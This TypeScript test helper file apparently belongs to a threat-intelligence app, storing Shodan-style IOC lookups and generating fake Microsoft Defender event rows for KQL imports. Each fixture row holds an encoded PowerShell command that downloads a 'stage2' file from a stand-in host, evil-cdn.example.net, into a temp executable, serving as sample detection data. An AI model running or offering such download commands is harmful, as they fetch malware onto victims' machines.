// Shared set-up for the cases tests: typed router calls that unwrap the envelope, and
// stored runs and lookups made the way the app makes them.
import type { MethodInput, MethodName, MethodOutput } from '../../src/shared/api'
import type { ApiError } from '../../src/shared/errors'
import type { Services } from '../../src/main/services'

export async function call<M extends MethodName>(s: Services, method: M, input: MethodInput<M>): Promise<MethodOutput<M>> {
  const answer = await s.router.call(method, input)
  if (!answer.ok) throw Object.assign(new Error(`${answer.error.code}: ${answer.error.message}`), { api: answer.error })
  return answer.value as MethodOutput<M>
}

/** The error a call answers with; fails the test when the call succeeds. */
export async function failure(s: Services, method: MethodName, input: unknown): Promise<ApiError> {
  const answer = await s.router.call(method, input)
  if (answer.ok) throw new Error(`${method} was expected to fail but answered ${JSON.stringify(answer.value).slice(0, 200)}`)
  return answer.error
}

export function storeLookup(
  s: Services,
  lookup: { provider?: string; ioc: string; iocType?: string; severity?: string; details?: string; fetchedAt?: number; status?: number }
): number {
  const info = s.db
    .prepare(
      `INSERT INTO lookups (provider, ioc, ioc_type, safe_ioc, result, severity, details, raw, reference, status, fetched_at)
       VALUES (?, ?, ?, ?, 1, ?, ?, ?, ?, ?, ?)`
    )
    .run(
      lookup.provider ?? 'Shodan',
      lookup.ioc,
      lookup.iocType ?? 'ipv4',
      lookup.ioc,
      lookup.severity ?? 'warning',
      lookup.details ?? JSON.stringify({ ports: [22, 443], org: 'Example Hosting' }),
      '{"raw":true}',
      `https://www.shodan.io/host/${lookup.ioc}`,
      lookup.status ?? 0,
      lookup.fetchedAt ?? Date.now() - 3_600_000
    )
  return Number(info.lastInsertRowid)
}

export const defenderColumns = [
  { name: 'Timestamp', type: 'DateTime' },
  { name: 'DeviceName', type: 'String' },
  { name: 'AccountUpn', type: 'String' },
  { name: 'RemoteIP', type: 'String' },
  { name: 'RemoteUrl', type: 'String' },
  { name: 'SHA256', type: 'String' },
  { name: 'ProcessCommandLine', type: 'String' },
  { name: 'RemotePort', type: 'Int32' }
]

export function defenderRows(n: number, start = Date.UTC(2026, 0, 1)): unknown[][] {
  const rows: unknown[][] = []
  for (let i = 0; i < n; i++) {
    rows.push([
      new Date(start + i * 60_000).toISOString(),
      i % 2 === 0 ? 'hr-laptop-01.contoso.local' : 'hr-laptop-02.contoso.local',
      'alice@contoso.com',
      i % 3 === 0 ? '203.0.113.7' : '198.51.100.23',
      'http://evil-cdn.example.net/payload.ps1',
      'a'.repeat(0) + 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      `powershell -enc ZQB2AGkAbAA= -c "iwr http://evil-cdn.example.net/stage2 -OutFile c:\\temp\\x.exe"`,
      443
    ])
  }
  return rows
}

export async function importRun(s: Services, title: string, rows: unknown[][], kql = 'DeviceNetworkEvents | where RemotePort == 443'): Promise<number> {
  const { runId } = await call(s, 'results.import', { title, kql, columns: defenderColumns, rows })
  return runId
}
